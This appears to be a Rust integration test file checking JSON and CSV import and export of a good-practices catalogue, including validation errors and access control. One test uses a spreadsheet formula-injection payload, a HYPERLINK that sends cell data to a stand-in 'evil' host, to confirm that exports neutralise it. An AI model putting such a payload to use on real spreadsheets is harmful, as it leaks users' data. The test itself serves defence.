//! Import and export of good practices as JSON and CSV: round trips between
//! two installations, idempotent re-imports, and bad files that store nothing.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use pspm_backend::domain::Role;
use pspm_tests::practices::create;
use pspm_tests::{TestApp, TestClient, both, error_fields};
use serde_json::{Value, json};

const COMUNE: &str = "Comune di Esportazione";

/// Creates the second owner organisation (as in the source installation).
async fn comune(admin: &TestClient) -> i64 {
    admin
        .create(
            "/api/v1/organisations",
            &json!({"name": COMUNE, "kind": "municipality", "level": "local"}),
        )
        .await["organisation"]["id"]
        .as_i64()
        .unwrap()
}

/// The body of a new practice owned by `owner` (else the author's organisation).
fn practice(title: &str, owner: Option<i64>) -> Value {
    json!({
        "owner_organisation_id": owner,
        "lang": "it", "title": title, "summary": "Un catalogo condiviso; per tutti, \"subito\".",
        "problem": "Pochi enti riusano le soluzioni.\nSeconda riga.", "solution": "Un catalogo condiviso.",
        "results": "Più riuso", "lessons": "", "conditions": "",
        "country": "IT", "territory_code": "ITI4", "level": "local", "policy_area": "digital",
        "innovation_stage": "implement", "launch_year": 2021, "licence": "CC-BY-4.0",
        "tags": ["Riuso", "open source"], "sdgs": [16, 9], "links": ["https://example.org/pratica"],
        "contact": "ufficio.piano@example.org"
    })
}

/// Moves practice `id` through the review workflow, which must accept it.
async fn step(c: &TestClient, id: i64, action: &str) {
    let r = c
        .post_json(
            &format!("/api/v1/practices/{id}/transition"),
            &json!({"action": action}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{action}: {}", r.text());
}

/// Two published practices (one by the member for the seeded ministry with an
/// English translation, one by the administrator for the municipality with a
/// Spanish one) and a draft that exports leave out.
async fn source(app: &TestApp) {
    let admin = app.client_as(Role::Admin).await;
    let member = app.client_as(Role::Member).await;
    let org = comune(&admin).await;
    let a = create(&member, &practice("Catalogo del riuso", None)).await;
    let r = member
        .post_json(
            &format!("/api/v1/practices/{a}/texts"),
            &json!({"lang": "en", "title": "Reuse catalogue", "summary": "A shared catalogue.",
                    "problem": "Few bodies reuse solutions.", "solution": "A shared catalogue."}),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
    step(&member, a, "submit").await;
    step(&admin, a, "publish").await;
    let b = create(&admin, &practice("Sportello digitale", Some(org))).await;
    let r = admin
        .post_json(
            &format!("/api/v1/practices/{b}/texts"),
            &json!({"lang": "es", "title": "Ventanilla digital", "summary": "Una ventanilla.",
                    "problem": "Colas.", "solution": "Una ventanilla en línea."}),
        )
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.text());
    step(&admin, b, "submit").await;
    step(&admin, b, "publish").await;
    create(&member, &practice("Bozza", None)).await;
}

/// Number of stored practices.
async fn stored(app: &TestApp) -> i64 {
    use diesel::prelude::*;
    use pspm_backend::db::schema::practices;
    app.db
        .run(|c| Ok(practices::table.count().get_result(c)?))
        .await
        .expect("count practices")
}

/// A fresh installation on the same backend.
async fn fresh(app: &TestApp) -> TestApp {
    TestApp::new(app.backend).await.expect("second app")
}

/// The exported catalogue in `format`.
async fn export(c: &TestClient, format: &str) -> String {
    let r = c
        .get(&format!("/api/v1/practices/export?format={format}"))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    r.text()
}

/// Imports a file as `content_type`; the status and the report or errors.
async fn import(c: &TestClient, content_type: &str, body: &str) -> (StatusCode, Value) {
    let r = c
        .post_raw("/api/v1/practices/import", content_type, body)
        .await;
    (r.status, r.json())
}

both!(exports_list_published_practices_by_slug, |app| async move {
    source(&app).await;
    let anon = app.client();
    let doc: Value = serde_json::from_str(&export(&anon, "json").await).unwrap();
    assert_eq!(doc["format"], "pspm-practices/1");
    let list = doc["practices"].as_array().unwrap();
    assert_eq!(list.len(), 2, "the draft is left out: {doc}");
    let slugs: Vec<&str> = list.iter().map(|p| p["slug"].as_str().unwrap()).collect();
    let mut sorted = slugs.clone();
    sorted.sort_unstable();
    assert_eq!(slugs, sorted);
    let first = &list[0];
    assert_eq!(first["owner_organisation"], "Ministero di Prova");
    assert_eq!(first["status"], "published");
    assert_eq!(first["tags"], json!(["open source", "riuso"]));
    assert_eq!(first["sdgs"], json!([9, 16]));
    assert_eq!(first["links"], json!(["https://example.org/pratica"]));
    let langs: Vec<&str> = first["texts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["lang"].as_str().unwrap())
        .collect();
    assert_eq!(langs, ["en", "it"]);
    assert_eq!(list[1]["owner_organisation"], COMUNE);

    let r = anon.get("/api/v1/practices/export?format=csv").await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(
        r.headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv"),
    );
    let csv = r.text();
    assert!(csv.starts_with("slug,owner_organisation,status,original_language,level,"));
    assert!(
        csv.contains(",open source;riuso,9;16,https://example.org/pratica,"),
        "{csv}"
    );
    // A header and one row per practice and language (a text spans two lines).
    assert_eq!(csv.matches(",published,it,").count(), 4, "{csv}");

    let r = anon.get("/api/v1/practices/export?format=xml").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(r.json()["errors"][0]["field"], "format");
});

both!(json_round_trip_and_reimport, |app| async move {
    source(&app).await;
    let original = export(&app.client(), "json").await;
    let other = fresh(&app).await;
    let admin = other.client_as(Role::Admin).await;
    comune(&admin).await;
    let (status, report) = import(&admin, "application/json", &original).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report, json!({"created": 2, "updated": 0, "unchanged": 0}));
    let again = export(&other.client(), "json").await;
    assert_eq!(
        serde_json::from_str::<Value>(&again).unwrap(),
        serde_json::from_str::<Value>(&original).unwrap()
    );
    let (status, report) = import(&admin, "application/json", &original).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report, json!({"created": 0, "updated": 0, "unchanged": 2}));
    assert_eq!(stored(&other).await, 2);
    assert_eq!(other.audit_count("practice.import").await, 2);
    // Imported practices are in the public catalogue.
    let list = other.client().get("/api/v1/practices").await.json();
    assert_eq!(list["meta"]["total"], 2, "{list}");

    // A changed file updates the practice with that slug, and only it.
    let mut doc: Value = serde_json::from_str(&original).unwrap();
    doc["practices"][0]["texts"][0]["title"] = json!("Reuse catalogue, second edition");
    let (status, report) = import(&admin, "application/json", &doc.to_string()).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report, json!({"created": 0, "updated": 1, "unchanged": 1}));
});

both!(csv_round_trip_and_reimport, |app| async move {
    source(&app).await;
    let original = export(&app.client(), "csv").await;
    let other = fresh(&app).await;
    let admin = other.client_as(Role::Admin).await;
    comune(&admin).await;
    let (status, report) = import(&admin, "text/csv; charset=utf-8", &original).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report, json!({"created": 2, "updated": 0, "unchanged": 0}));
    assert_eq!(export(&other.client(), "csv").await, original);
    assert_eq!(
        export(&other.client(), "json").await,
        export(&app.client(), "json").await
    );
    let (status, report) = import(&admin, "text/csv", &original).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report, json!({"created": 0, "updated": 0, "unchanged": 2}));
    assert_eq!(stored(&other).await, 2);
});

both!(bad_files_store_nothing, |app| async move {
    source(&app).await;
    let json_file = export(&app.client(), "json").await;
    let csv_file = export(&app.client(), "csv").await;
    let other = fresh(&app).await;
    let admin = other.client_as(Role::Admin).await;

    // Unknown owner organisation: every practice of the municipality is named.
    let (status, errors) = import(&admin, "application/json", &json_file).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{errors}");
    assert_eq!(errors["errors"][0]["code"], "organisation_not_found");
    assert_eq!(error_fields(&errors), ["practices.1.owner_organisation"]);
    let (status, errors) = import(&admin, "text/csv", &csv_file).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{errors}");
    assert!(
        error_fields(&errors)
            .iter()
            .all(|f| f.ends_with(": owner_organisation")),
        "{errors}"
    );
    comune(&admin).await;

    // Wrong columns: one error naming them.
    let (status, errors) = import(&admin, "text/csv", "slug,title,colour\nx,Uno,rosso\n").await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(errors["errors"].as_array().unwrap().len(), 1, "{errors}");
    assert_eq!(errors["errors"][0]["code"], "columns_invalid");
    let detail = errors["errors"][0]["detail"].as_str().unwrap();
    assert!(
        detail.contains("owner_organisation") && detail.contains("\"colour\""),
        "{detail}"
    );

    // A byte that is not UTF-8, on line 3.
    let mut bytes = csv_file.clone().into_bytes();
    let line3 = bytes
        .iter()
        .enumerate()
        .filter(|(_, b)| **b == b'\n')
        .nth(1)
        .map(|(i, _)| i + 1)
        .unwrap();
    bytes[line3] = 0xFF;
    let r = admin
        .send(
            Request::post("/api/v1/practices/import")
                .header(header::CONTENT_TYPE, "text/csv")
                .body(Body::from(bytes))
                .unwrap(),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert_eq!(r.json()["errors"][0]["code"], "invalid_encoding");
    assert_eq!(r.json()["errors"][0]["field"], "line 3");

    // Broken JSON.
    let (status, errors) = import(
        &admin,
        "application/json",
        &json_file[..json_file.len() / 2],
    )
    .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(errors["errors"][0]["code"], "invalid_json");

    // One bad row among good ones: the report names its line and fields.
    let bad_csv = format!(
        "{csv_file}x:new,{COMUNE},published,it,local,digital,,2021,,IT,,,,18,,it,,Sintesi,Problema,Soluzione,,,,\n"
    );
    let last_line = bad_csv.lines().count();
    let (status, errors) = import(&admin, "text/csv", &bad_csv).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{errors}");
    let mut got = error_fields(&errors);
    got.sort();
    assert_eq!(
        got,
        [
            format!("line {last_line}: sdgs"),
            format!("line {last_line}: title")
        ],
        "{errors}"
    );
    let mut doc: Value = serde_json::from_str(&json_file).unwrap();
    doc["practices"][1]["level"] = json!("galactic");
    doc["practices"][1]["texts"][1]["summary"] = json!("  ");
    let (status, errors) = import(&admin, "application/json", &doc.to_string()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{errors}");
    let mut got = error_fields(&errors);
    got.sort();
    assert_eq!(
        got,
        ["practices.1.level", "practices.1.texts.1.summary"],
        "{errors}"
    );

    // Only administrators import; the body must say its type.
    let member = other.client_as(Role::Member).await;
    let r = member
        .post_raw("/api/v1/practices/import", "application/json", &json_file)
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    let r = other
        .client()
        .post_raw("/api/v1/practices/import", "application/json", &json_file)
        .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    // Plain text is refused as such, even from a same-site script (CSRF header sent).
    admin.get("/").await;
    let token = admin.cookie("pspm_csrf").expect("csrf cookie");
    admin.set_header(axum::http::HeaderName::from_static("x-csrf-token"), &token);
    let (status, errors) = import(&admin, "text/plain", &csv_file).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(errors["errors"][0]["code"], "unsupported_media_type");

    assert_eq!(stored(&other).await, 0, "nothing was stored");
    assert_eq!(other.audit_count("practice.import").await, 0);
    // The same files import once the organisation exists.
    let (status, report) = import(&admin, "text/csv", &csv_file).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(stored(&other).await, 2);
});

both!(
    csv_cells_that_would_run_as_formulas_are_quoted_and_read_back,
    |app| async move {
        let admin = app.client_as(Role::Admin).await;
        let member = app.client_as(Role::Member).await;
        let title = r#"=HYPERLINK("https://evil/?"&A1,"x")"#;
        let mut body = practice(title, None);
        body["summary"] = json!("-30% di emissioni in un anno");
        body["results"] = json!("'-- già tra virgolette");
        body["lessons"] = json!("'Ndrangheta: un apostrofo all'inizio resta com'è");
        let id = create(&member, &body).await;
        step(&member, id, "submit").await;
        step(&admin, id, "publish").await;
        let file = export(&app.client(), "csv").await;
        let mut reader = csv::Reader::from_reader(file.as_bytes());
        let header: Vec<String> = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let row = reader.records().next().expect("the practice").unwrap();
        let cell = |c: &str| row[header.iter().position(|h| h == c).unwrap()].to_owned();
        assert_eq!(cell("title"), format!("'{title}"));
        assert_eq!(cell("summary"), "'-30% di emissioni in un anno");
        // An apostrophe that could be taken for the quote is quoted in turn.
        assert_eq!(cell("results"), "''-- già tra virgolette");
        assert_eq!(
            cell("lessons"),
            "'Ndrangheta: un apostrofo all'inizio resta com'è"
        );
        assert_eq!(cell("launch_year"), "2021", "numbers stay numbers");
        // JSON carries the text as written.
        let json_file = export(&app.client(), "json").await;
        let doc: Value = serde_json::from_str(&json_file).unwrap();
        assert_eq!(doc["practices"][0]["texts"][0]["title"], title);
        // Imported elsewhere, the CSV gives back the text as written.
        let other = fresh(&app).await;
        let other_admin = other.client_as(Role::Admin).await;
        let (status, report) = import(&other_admin, "text/csv", &file).await;
        assert_eq!(status, StatusCode::OK, "{report}");
        assert_eq!(report, json!({"created": 1, "updated": 0, "unchanged": 0}));
        assert_eq!(export(&other.client(), "json").await, json_file);
        assert_eq!(export(&other.client(), "csv").await, file);
    }
);

both!(
    the_interlink_catalogue_round_trips_through_export_and_import,
    |app| async move {
        let Some(dir) = pspm_tests::practices::catalogue("INTERLINK round trip") else {
            return;
        };
        pspm_tests::practices::import_catalogue(&app, dir, false).await;
        let original = export(&app.client(), "json").await;
        let other = fresh(&app).await;
        let admin = other.client_as(Role::Admin).await;
        admin
            .create(
                "/api/v1/organisations",
                &json!({"name": pspm_backend::seed::interlink::OWNER, "kind": "other_public", "level": "eu"}),
            )
            .await;
        let (status, report) = import(&admin, "application/json", &original).await;
        assert_eq!(status, StatusCode::OK, "{report}");
        assert_eq!(report["created"], 78, "{report}");
        let again = export(&other.client(), "json").await;
        assert_eq!(
            serde_json::from_str::<Value>(&again).unwrap(),
            serde_json::from_str::<Value>(&original).unwrap()
        );
    }
);
